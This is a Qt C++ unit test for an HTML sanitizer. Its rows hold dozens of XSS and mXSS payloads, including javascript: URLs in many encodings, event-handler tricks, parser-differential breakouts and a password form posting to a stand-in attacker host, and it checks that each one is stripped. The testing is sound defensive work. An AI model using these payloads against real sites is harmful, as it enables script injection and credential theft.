// Hostile HTML: each row asserts that the dangerous part is gone, that the harmless text around it survives, and
// that the whole output passes the allowlist check; then idempotence over every row, and robustness.

#include "render/htmlpreparse.h"
#include "render/htmlsanitizer.h"
#include "sanitizerchecks.h"

#include <QElapsedTimer>
#include <QTest>

using namespace folio;

namespace {

QStringList list(std::initializer_list<const char*> items)
{
    QStringList out;
    for (const char* item : items)
        out << QString::fromUtf8(item);
    return out;
}

QString u8(const char* s)
{
    return QString::fromUtf8(s);
}

} // namespace

class TestHtmlSanitizer : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void hostile_data()
    {
        QTest::addColumn<QString>("html");
        QTest::addColumn<QString>("base");
        QTest::addColumn<QStringList>("absent");  // case-insensitive
        QTest::addColumn<QStringList>("present"); // exact
        auto row = [](const char* name, const QString& html, const QStringList& absent, const QStringList& present,
                      const char* base = "") { QTest::newRow(name) << html << u8(base) << absent << present; };

        // Scripts and active content
        row("script", u8("<p>before<script>alert(1)</script>after</p>"), list({"<script", "alert"}),
            list({"<p>beforeafter</p>"}));
        row("script uppercase", u8("one<SCRIPT>alert(1)</SCRIPT>two"), list({"script", "alert"}), list({"onetwo"}));
        row("script src", u8("a<script src=\"https://evil.example/x.js\"></script>b"), list({"script", "evil"}),
            list({"ab"}));
        row("unclosed script", u8("text<script>alert(1)"), list({"script", "alert"}), list({"text"}));
        row("script type not math", u8("a<script type=\"math/tex; alert\">alert(1)</script>b"),
            list({"script", "alert", "math"}), list({"ab"}));
        row("img onerror", u8("x<img src=x onerror=alert(1)>y"), list({"onerror", "alert"}),
            list({"x<span class=\"image-missing\"></span>y"}));
        row("img onerror kept src", u8("<img src=\"https://ok.example/a.png\" onerror=\"alert(1)\">"),
            list({"onerror", "alert"}), list({"<img src=\"https://ok.example/a.png\">"}));
        row("img slash separated", u8("a<img/src=\"x\"/onerror=alert(1)>b"), list({"onerror", "alert"}),
            list({"a", "b"}));
        row("svg onload", u8("<svg onload=alert(1)><circle r=1 /></svg>text"), list({"svg", "onload", "circle"}),
            list({"text"}));
        row("svg script", u8("<svg><script>alert(1)</script></svg>after"), list({"svg", "script", "alert"}),
            list({"after"}));
        row("svg xlink javascript", u8("<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>after"),
            list({"svg", "xlink", "javascript"}), list({"after"}));
        row("svg foreignObject iframe",
            u8("<svg><foreignObject><iframe src=javascript:alert(1)></iframe>"
               "</foreignObject></svg>after"),
            list({"iframe", "javascript", "foreignobject"}), list({"after"}));
        row("mathml href", u8("<math href=\"javascript:alert(1)\"><mi>x</mi></math>after"),
            list({"javascript", "<math", "<mi"}), list({"after"}));
        row("body onload", u8("<body onload=alert(1)>text</body>"), list({"body", "onload", "alert"}), list({"text"}));
        row("frameset", u8("<frameset onload=alert(1)><frame src=\"javascript:alert(1)\"></frameset>after"),
            list({"frame", "onload", "javascript"}), list({"after"}));
        row("iframe srcdoc", u8("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>after"),
            list({"iframe", "srcdoc", "script"}), list({"after"}));
        row("iframe javascript", u8("a<iframe src=\"javascript:alert(1)\">fallback</iframe>b"),
            list({"iframe", "javascript", "fallback"}), list({"ab"}));
        row("object", u8("a<object data=\"javascript:alert(1)\"><param name=x value=y>fb</object>b"),
            list({"object", "param", "javascript", "fb"}), list({"ab"}));
        row("embed", u8("a<embed src=\"https://evil.example/x.swf\">b"), list({"embed", "evil"}), list({"ab"}));
        row("applet", u8("a<applet code=\"X.class\">fb</applet>b"), list({"applet", "fb"}), list({"ab"}));
        row("template", u8("a<template><img src=x onerror=alert(1)></template>b"), list({"template", "onerror", "img"}),
            list({"ab"}));
        row("marquee onstart", u8("a<marquee onstart=alert(1)>hi</marquee>b"), list({"marquee", "onstart"}),
            list({"ab"}));
        row("details ontoggle", u8("<details open ontoggle=alert(1)><summary>s</summary>d</details>"),
            list({"ontoggle", "alert"}), list({"<details open=\"\"><summary>s</summary>d</details>"}));
        row("video and source",
            u8("<video poster=javascript:alert(1) onerror=alert(2)><source src=x "
               "onerror=alert(3)>fallback</video>"),
            list({"video", "source", "poster", "onerror"}), list({"fallback"}));
        row("audio onerror", u8("a<audio src=x onerror=alert(1)></audio>b"), list({"audio", "onerror"}), list({"ab"}));
        row("area in map", u8("a<map name=m><area href=\"javascript:alert(1)\" shape=rect></map>b"),
            list({"area", "map", "javascript"}), list({"ab"}));

        // Forms and controls
        row("form action",
            u8("a<form action=\"https://evil.example/steal\"><input name=pw><button>Go</button>"
               "</form>b"),
            list({"form", "evil", "<input", "button", "go"}), list({"ab"}));
        row("button formaction", u8("a<button formaction=\"javascript:alert(1)\">click</button>b"),
            list({"button", "formaction", "click"}), list({"ab"}));
        row("input onfocus autofocus", u8("a<input onfocus=alert(1) autofocus>b"),
            list({"input", "onfocus", "autofocus"}), list({"ab"}));
        row("input image formaction", u8("a<input type=image src=x formaction=javascript:alert(1)>b"),
            list({"input", "formaction", "javascript"}), list({"ab"}));
        row("checkbox onclick", u8("<input type=\"checkbox\" onclick=\"alert(1)\" checked> task"),
            list({"onclick", "alert"}), list({"<input type=\"checkbox\" checked=\"\" disabled=\"\"> task"}));
        row("select", u8("a<select><option>one</option></select>b"), list({"select", "option", "one"}), list({"ab"}));
        row("textarea", u8("a<textarea>&lt;/textarea&gt;&lt;script&gt;alert(1)&lt;/script&gt;</textarea>b"),
            list({"textarea", "script", "alert"}), list({"ab"}));

        // Document metadata and styles
        row("meta refresh", u8("a<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">b"),
            list({"meta", "refresh", "javascript"}), list({"ab"}));
        row("base href", u8("<base href=\"https://evil.example/\">after <a href=\"rel\">l</a>"),
            list({"base", "evil", "href"}), list({"after <a>l</a>"}));
        row("link stylesheet", u8("a<link rel=stylesheet href=\"https://evil.example/x.css\">b"),
            list({"link", "evil", "stylesheet"}), list({"ab"}));
        row("title", u8("a<title>t</title>b"), list({"title", ">t<"}), list({"ab"}));
        row("style element", u8("a<style>body{background:url(javascript:alert(1))}</style>b"),
            list({"style", "javascript", "background"}), list({"ab"}));
        row("style expression", u8("<p style=\"width: expression(alert(1))\">text</p>"), list({"style", "expression"}),
            list({"<p>text</p>"}));
        row("style url", u8("<div style=\"background-image: url(https://evil.example/t.png)\">t</div>"),
            list({"style", "evil"}), list({"<div>t</div>"}));

        // Event handlers and attribute tricks
        row("event handlers", u8("<p onclick=\"alert(1)\" onmouseover=alert(2)>text</p>"),
            list({"onclick", "onmouseover", "alert"}), list({"<p>text</p>"}));
        row("event handler uppercase", u8("<P ONCLICK=\"alert(1)\">text</P>"), list({"onclick"}),
            list({"<p>text</p>"}));
        row("unquoted attribute", u8("<a href=javascript:alert(1)>x</a>"), list({"javascript", "href"}),
            list({"<a>x</a>"}));
        row("duplicate attributes first wins", u8("<a href=\"https://ok.example/\" href=\"javascript:alert(1)\">x</a>"),
            list({"javascript"}), list({"href=\"https://ok.example/\""}));
        row("duplicate attributes first bad", u8("<a href=\"javascript:alert(1)\" href=\"https://ok.example/\">x</a>"),
            list({"javascript", "ok.example"}), list({"<a>x</a>"}));
        row("quote breaking", u8("<a title='x\" onclick=\"alert(1)'>t</a>"), list({"\" onclick=\""}),
            list({"title=\"x&quot; onclick=&quot;alert(1)\""}));
        row("link target and ping",
            u8("<a href=\"https://ok.example/\" target=\"_blank\" ping=\"https://evil.example/\">x</a>"),
            list({"target", "ping", "evil"}), list({"rel=\"noopener noreferrer\""}));
        row("srcset", u8("<img src=\"https://ok.example/a.png\" srcset=\"javascript:alert(1) 2x\">"),
            list({"srcset", "javascript"}), list({"src=\"https://ok.example/a.png\""}));
        row("xlink on img", u8("<img src=https://ok.example/a.png xlink:href=javascript:alert(1)>"),
            list({"xlink", "javascript"}), list({"src=\"https://ok.example/a.png\""}));
        row("id clobbering", u8("<img name=\"getElementById\" id=\"katex\" src=\"https://ok.example/a.png\">"),
            list({"name=", "id=\"katex\""}), list({"id=\"user-content-katex\""}));
        row("class injection", u8("<div class=\"katex-display math-error overlay\">t</div>"),
            list({"class", "katex", "overlay"}), list({"<div>t</div>"}));
        row("math class on a link", u8("<a class=\"math inline\" href=\"https://ok.example/\">x</a>"), list({"class"}),
            list({">x</a>"}));

        // javascript: in every spelling
        row("javascript href", u8("<a href=\"javascript:alert(1)\">link</a>"), list({"javascript", "href"}),
            list({"<a>link</a>"}));
        row("javascript mixed case", u8("<a href=\"JaVaScRiPt:alert(1)\">link</a>"), list({"javascript", "href"}),
            list({"<a>link</a>"}));
        row("javascript decimal entities",
            u8("<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">link</a>"),
            list({"javascript", "href"}), list({"<a>link</a>"}));
        row("javascript hex entities without semicolons",
            u8("<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">link</a>"),
            list({"javascript", "href"}), list({"<a>link</a>"}));
        row("javascript padded entities", u8("<a href=\"&#0000106avascript:alert(1)\">link</a>"),
            list({"javascript", "href"}), list({"<a>link</a>"}));
        row("javascript colon entity", u8("<a href=\"javascript&colon;alert(1)\">link</a>"),
            list({"javascript", "href"}), list({"<a>link</a>"}));
        row("javascript tab entity", u8("<a href=\"jav&#x09;ascript:alert(1)\">link</a>"), list({"ascript", "href"}),
            list({"<a>link</a>"}));
        row("javascript named tab", u8("<a href=\"java&Tab;script:alert(1)\">link</a>"), list({"script", "href"}),
            list({"<a>link</a>"}));
        row("javascript newline entity", u8("<a href=\"jav&#x0A;ascript:alert(1)\">link</a>"),
            list({"ascript", "href"}), list({"<a>link</a>"}));
        row("javascript raw tab and newline", u8("<a href=\"java\tscr\nipt:alert(1)\">link</a>"),
            list({"ipt:", "href"}), list({"<a>link</a>"}));
        row("javascript raw tab with base", u8("<a href=\"java\tscript:alert(1)\">link</a>"),
            list({"javascript", "href"}), list({"<a>link</a>"}), "https://blog.example/post/");
        row("javascript nul", QStringLiteral("<a href=\"java") + QChar(0) + u8("script:alert(1)\">link</a>"),
            list({"script:", "href"}), list({"<a>link</a>"}));
        row("javascript leading controls", u8("<a href=\"  \x01\x02 javascript:alert(1)\">link</a>"),
            list({"javascript", "href"}), list({"<a>link</a>"}));
        row("javascript fullwidth colon", u8("<a href=\"javascript：alert(1)\">link</a>"), list({"javascript", "href"}),
            list({"<a>link</a>"}));
        row("vbscript", u8("<a href=\"vbscript:msgbox(1)\">link</a>"), list({"vbscript", "href"}),
            list({"<a>link</a>"}));
        row("data html link", u8("<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">link</a>"),
            list({"data:", "href"}), list({"<a>link</a>"}));
        row("data image link", u8("<a href=\"data:image/png;base64,AAAA\">link</a>"), list({"data:", "href"}),
            list({"<a>link</a>"}));
        row("file link", u8("<a href=\"file:///etc/passwd\">link</a>"), list({"file:", "passwd"}),
            list({"<a>link</a>"}));
        row("protocol-relative without base", u8("<a href=\"//evil.example/x\">link</a>"), list({"evil", "href"}),
            list({"<a>link</a>"}));
        row("javascript img src", u8("<img src=\"javascript:alert(1)\" alt=\"pic\">"), list({"javascript", "<img"}),
            list({"<span class=\"image-missing\" title=\"pic\">pic</span>"}));
        row("data html img src", u8("<img src=\"data:text/html,<script>alert(1)</script>\" alt=a>"),
            list({"data:", "script"}), list({"image-missing"}));

        // Parser differentials (mXSS)
        row("noscript title breakout",
            u8("before<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>after"),
            list({"noscript", "onerror", "alert"}), list({"before", "after"}));
        row("math mglyph style",
            u8("before<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
               "</style></mglyph></table></mtext></math>after"),
            list({"onerror", "<math", "<style", "mglyph"}), list({"before", "after"}));
        row("svg style a breakout", u8("<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">after"),
            list({"onerror", "<svg", "<style"}), list({"after"}));
        // gumbo reads this by the pre-2020 rules (mglyph as HTML): the text after it is lost, never the safety.
        row("form math confusion",
            u8("before<form><math><mtext></form><form><mglyph><style></math><img src "
               "onerror=alert(1)>after"),
            list({"onerror", "<math", "<form", "<style"}), list({"before"}));
        row("xmp raw text", u8("<xmp><script>alert(1)</script></xmp>"), list({"<script"}),
            list({"<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>"}));
        row("plaintext", u8("<plaintext><script>alert(1)</script>"), list({"<script", "plaintext"}),
            list({"<pre>&lt;script&gt;"}));
        row("broken tag name", u8("<scr<script>ipt>alert(1)</script>ok"), list({"<script", "<scr"}), list({"ok"}));
        row("escaped markup stays text", u8("&lt;script&gt;alert(1)&lt;/script&gt;"), list({"<script"}),
            list({"&lt;script&gt;alert(1)&lt;/script&gt;"}));

        // Comments, CDATA, unclosed and mis-nested markup
        row("comment", u8("a<!-- <script>alert(1)</script> -->b"), list({"<!--", "script"}), list({"ab"}));
        row("conditional comment", u8("a<!--[if IE]><script>alert(1)</script><![endif]-->b"),
            list({"<!", "script", "endif"}), list({"ab"}));
        row("downlevel-revealed conditional", u8("a<![if !IE]><script>alert(1)</script><![endif]>b"),
            list({"<!", "script", "alert"}), list({"ab"}));
        row("cdata", u8("a<![CDATA[<script>alert(1)</script>]]>b"), list({"<script", "cdata"}), list({"a", "b"}));
        row("unterminated comment", u8("a<!-- <img src=x onerror=alert(1)>"), list({"onerror", "<img"}), list({"a"}));
        row("unclosed tags", u8("<p><b>bold <i>italic <a href=\"https://ok.example/\">link"), list({"<!"}),
            list({"<p><b>bold <i>italic <a href=\"https://ok.example/\" rel=\"noopener noreferrer\">link</a></i>"
                  "</b></p>"}));
        row("tag inside attribute", u8("<p title=\"<script>alert(1)</script>\">t</p>"), list({"<script"}),
            list({"title=\"&lt;script&gt;alert(1)&lt;/script&gt;\""}));
        row("nul in tag name", QStringLiteral("a<scr") + QChar(0) + u8("ipt>x</scr") + QChar(0) + u8("ipt>b"),
            list({"<scr"}), list({"a", "b"}));
    }

    void hostile()
    {
        QFETCH(QString, html);
        QFETCH(QString, base);
        QFETCH(QStringList, absent);
        QFETCH(QStringList, present);
        SanitizeOptions options;
        options.baseUrl = QUrl(base);
        const QString out = sanitizeHtml(html, options);
        for (const QString& s : absent)
            QVERIFY2(!out.contains(s, Qt::CaseInsensitive), qPrintable(QStringLiteral("found %1 in:\n%2").arg(s, out)));
        for (const QString& s : present)
            QVERIFY2(out.contains(s), qPrintable(QStringLiteral("missing %1 in:\n%2").arg(s, out)));
        const QStringList violations = sanitizerchecks::violations(out);
        QVERIFY2(violations.isEmpty(), qPrintable(violations.join(QLatin1String(", ")) + QLatin1Char('\n') + out));
    }

    void idempotent_data() { hostile_data(); }

    void idempotent()
    {
        QFETCH(QString, html);
        QFETCH(QString, base);
        for (const bool findMath : {false, true}) {
            SanitizeOptions options;
            options.baseUrl = QUrl(base);
            options.findMathInText = findMath;
            const QString once = sanitizeHtml(html, options);
            QCOMPARE(sanitizeHtml(once, options), once);
        }
    }

    void deepNesting_data()
    {
        QTest::addColumn<QString>("open");
        QTest::addColumn<QString>("close");
        QTest::addColumn<bool>("textKept"); // false where the text is inside dropped svg or math
        QTest::newRow("div") << u8("<div>") << u8("</div>") << true;
        QTest::newRow("div unclosed") << u8("<div>") << QString() << true;
        QTest::newRow("span") << u8("<span>") << u8("</span>") << true;
        QTest::newRow("b unclosed") << u8("<b>") << QString() << true;
        QTest::newRow("list items") << u8("<ul><li>") << QString() << true;
        QTest::newRow("table cells") << u8("<table><tr><td>") << QString() << true;
        QTest::newRow("blockquote") << u8("<blockquote>") << u8("</blockquote>") << true;
        QTest::newRow("formatting with attributes") << u8("<b title=x><i title=y>") << QString() << true;
        QTest::newRow("links") << u8("<a href=\"https://x.org/\">") << QString() << true;
        QTest::newRow("svg") << u8("<svg><g>") << QString() << false;
        QTest::newRow("math") << u8("<math><mi>") << QString() << false;
    }

    // 100,000 levels: no stack overflow, no quadratic time, the text survives, output at most 256 deep.
    void deepNesting()
    {
        QFETCH(QString, open);
        QFETCH(QString, close);
        QFETCH(bool, textKept);
        const int levels = 100000;
        const QString html = open.repeated(levels) + u8("deep text") + close.repeated(levels) + u8("after");
        QElapsedTimer timer;
        timer.start();
        const QString out = sanitizeHtml(html);
        QVERIFY2(timer.elapsed() < 10000, qPrintable(QString::number(timer.elapsed())));
        QCOMPARE(out.contains(u8("deep text")), textKept);
        QCOMPARE(out.contains(u8("after")), textKept);
        QVERIFY(sanitizerchecks::nestingDepth(out) <= kMaxHtmlNesting);
        QVERIFY(sanitizerchecks::violations(out).isEmpty());
        QCOMPARE(sanitizeHtml(out), out);
    }

    // Five megabytes of article in linear time (a quadratic step would take minutes).
    void hugeInput()
    {
        const QString chunk = u8("<h2 id=\"s\">节</h2><p>Text \\(x^2\\) and <a href=\"/p\" onclick=\"x()\">link</a> "
                                 "<img src=\"i.png\" alt=\"图\"> &amp; &nbsp;</p><pre><code>a &lt; b</code></pre>"
                                 "<table><tr><td>1</td></tr></table><script>evil()</script>\n");
        const QString html = chunk.repeated(5 * 1024 * 1024 / chunk.toUtf8().size());
        SanitizeOptions options;
        options.baseUrl = QUrl(u8("https://blog.example/post/"));
        options.findMathInText = true;
        QElapsedTimer timer;
        timer.start();
        const QString out = sanitizeHtml(html, options);
        QVERIFY2(timer.elapsed() < 20000, qPrintable(QString::number(timer.elapsed())));
        QVERIFY(!out.contains(u8("evil")));
        QCOMPARE(out.count(u8("<span class=\"math inline\">x^2</span>")), html.count(u8("\\(x^2\\)")));
    }

    void invalidUnicode()
    {
        const QString html = u8("<p title=\"a") + QChar(0xDC00) + u8("\">x") + QChar(0xD800) + u8("y") + QChar(0xD83D) +
                             QChar(0xDE00) + u8("&#xD800;&#0;z</p>");
        const QString out = sanitizeHtml(html);
        for (qsizetype i = 0; i < out.size(); ++i) {
            if (out.at(i).isHighSurrogate() && i + 1 < out.size() && out.at(i + 1).isLowSurrogate())
                ++i;
            else
                QVERIFY2(!out.at(i).isSurrogate(), "lone surrogate in output");
        }
        QVERIFY(!out.contains(QChar(0)));
        QCOMPARE(QString::fromUtf8(out.toUtf8()), out);
        QVERIFY(out.contains(QStringLiteral("y") + QChar(0xD83D) + QChar(0xDE00)));
    }

    void emptyInput()
    {
        QCOMPARE(sanitizeHtml(QString()), QString());
        QCOMPARE(sanitizeHtml(u8("   ")), u8("   "));
    }

    // The pre-parse pass leaves well-formed HTML within the limit alone (so sanitized output is stable).
    void preparseKeepsWellFormed()
    {
        const QByteArray html = QByteArray("<div>").repeated(kMaxHtmlNesting - 1) + "<p>x</p>" +
                                QByteArray("</div>").repeated(kMaxHtmlNesting - 1) + "<ul><li>a<li>b</ul>";
        QCOMPARE(preparseHtml(html), html);
        const QByteArray deeper = QByteArray("<div>").repeated(kMaxHtmlNesting + 10) + "x" +
                                  QByteArray("</div>").repeated(kMaxHtmlNesting + 10);
        QCOMPARE(preparseHtml(deeper),
                 QByteArray("<div>").repeated(kMaxHtmlNesting) + "x" + QByteArray("</div>").repeated(kMaxHtmlNesting));
    }
};

QTEST_GUILESS_MAIN(TestHtmlSanitizer)
#include "tst_htmlsanitizer.moc"
